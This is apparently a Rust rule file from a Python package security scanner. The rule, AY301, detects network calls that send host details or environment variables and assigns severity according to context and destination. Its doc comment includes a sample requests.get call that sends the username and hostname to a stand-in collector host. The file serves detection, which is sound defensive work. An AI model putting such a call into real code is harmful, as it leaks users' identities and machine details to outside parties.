use crate::finding::{Finding, Severity};
use crate::flows::hosts;
use crate::python::{ExecContext, taint};
use crate::rules::helpers::endpoints;
use crate::rules::helpers::network::is_constructor;
use crate::rules::helpers::taint_words::describe_taint;
use crate::rules::{PackageFacts, Rule, RuleMeta, code_finding, declare_rule};

declare_rule! {
    /// Host details or environment variables sent over the network.
    ///
    /// ## What it finds
    /// A network call (HTTP clients, `urllib`, sockets, DNS look-ups, SMTP,
    /// FTP) whose arguments carry values read from the host — user and host
    /// name, working directory, `platform` details — or from environment
    /// variables, followed through variables, string building and local
    /// functions. A request object (`urllib.request.Request(url, data)`)
    /// is reported where it is built, with its URL; opening it is not
    /// reported again. A connection object's method
    /// (`http.client.HTTPSConnection(host).request(...)`, `ws.send(...)`)
    /// sends to the address the object was opened to. Install- and startup-time sends are reported by the
    /// install and startup rules; this rule covers import time and runtime.
    ///
    /// ## Why it matters
    /// Dependency-confusion probes and stealers announce each victim by
    /// sending who and where it is, and environment variables hold CI
    /// tokens and cloud keys. A library that does it on import does it to
    /// everyone who installs it: host details or the whole environment
    /// (`os.environ` itself, `dict(os.environ)`, `os.environ.copy()`) sent on
    /// import are critical, one environment variable alone medium (it is
    /// often a proxy or an endpoint setting). Inside functions a user calls,
    /// telemetry is common: low, medium for the whole environment — but
    /// high when host details go to a foreign receiver (an interaction
    /// collector, tunnel, paste site, dynamic-DNS host or bare public IP,
    /// see AY302; a host hidden in the code; a chat channel whose token the
    /// code carries), which no library reports to, and critical when the
    /// whole environment, with the tokens and keys it holds, goes there,
    /// or when host details go to an interaction collector (a service
    /// whose only use is to learn that code ran somewhere).
    ///
    /// ## Example
    /// ```python
    /// import getpass, socket, requests
    /// requests.get("https://collector.example/p", params={
    ///     "u": getpass.getuser(), "h": socket.gethostname()})
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1082 (System Information Discovery), T1041
    /// (Exfiltration Over C2 Channel); Alex Birsan, "Dependency Confusion"
    /// (2021).
    pub struct HostData {
        id: "AY301",
        slug: "host-data-exfiltration",
        category: Exfiltration,
        severity: Critical,
    }
}

impl Rule for HostData {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for file in facts.python {
            for call in file.calls.iter().filter(|c| c.is_network()) {
                // A request object (`urllib.request.Request(url, data)`)
                // is where its data and destination are known: it is
                // reported, and opening it is not again.
                let request = is_request_object(call.name.as_str());
                if matches!(call.context, ExecContext::Install | ExecContext::Startup)
                    || (is_constructor(&call.name) && !request)
                    || call
                        .args
                        .first()
                        .and_then(|a| a.origin.as_ref())
                        .and_then(|o| o.as_str().strip_suffix("()"))
                        .is_some_and(is_request_object)
                {
                    continue;
                }
                let sends = crate::rules::sent_taint(call)
                    & (taint::HOST_INFO | taint::ENV | taint::ENV_ALL);
                if sends == 0 {
                    continue;
                }
                // A connection object's method sends where the object was
                // opened to.
                let target = call
                    .destination
                    .as_deref()
                    .or_else(|| call.arg_texts().find(|t| t.contains("://")))
                    .unwrap_or("a remote host");
                let receiver = endpoints::call_receiver(call)
                    .or_else(|| call.destination.as_deref().and_then(endpoints::classify));
                let mut f = code_finding(
                    &Self::META,
                    file,
                    call,
                    format!(
                        "`{}` sends {} to {target} {}",
                        call.name,
                        describe_taint(sends),
                        call.context.describe()
                    ),
                );
                // Host details announce a victim; an environment variable
                // alone is often configuration (a proxy, an endpoint).
                let victim = sends & (taint::HOST_INFO | taint::ENV_ALL) != 0;
                // Where no library reports to: a throwaway receiver (a
                // collector, tunnel, paste site, bare IP), a host hidden
                // in the code, the author's private chat channel.
                let collector = receiver
                    .is_some_and(|(kind, _)| kind == endpoints::Kind::Collector)
                    && sends & taint::HOST_INFO != 0;
                let foreign = receiver.is_some()
                    || hosts::foreign_url(target, &file.source, facts.metadata).is_some();
                f.severity = match (call.context, victim) {
                    // The whole environment holds the user's tokens and
                    // keys: sent where no service of theirs lives, it is
                    // theft in any context.
                    (ExecContext::Runtime, true) if foreign && sends & taint::ENV_ALL != 0 => {
                        Severity::Critical
                    }
                    // An interaction collector exists to learn that code ran
                    // on someone's machine: victim details sent to one are a
                    // probe announcing each victim, wherever they run.
                    (ExecContext::Runtime, true) if collector => Severity::Critical,
                    // Victim details sent elsewhere foreign is exfiltration
                    // even in a function.
                    (ExecContext::Runtime, true) if foreign => Severity::High,
                    (ExecContext::Runtime, _) if sends & taint::ENV_ALL != 0 => Severity::Medium,
                    (ExecContext::Runtime, _) => Severity::Low,
                    (_, true) => Severity::Critical,
                    (_, false) => Severity::Medium,
                };
                out.push(f);
            }
        }
    }
}

/// Request objects built with their URL and data, sent by whatever opens
/// them (`urllib.request.Request`, `requests.Request`).
fn is_request_object(name: &str) -> bool {
    matches!(
        name,
        "urllib.request.Request"
            | "urllib2.Request"
            | "requests.Request"
            | "requests.models.Request"
    )
}
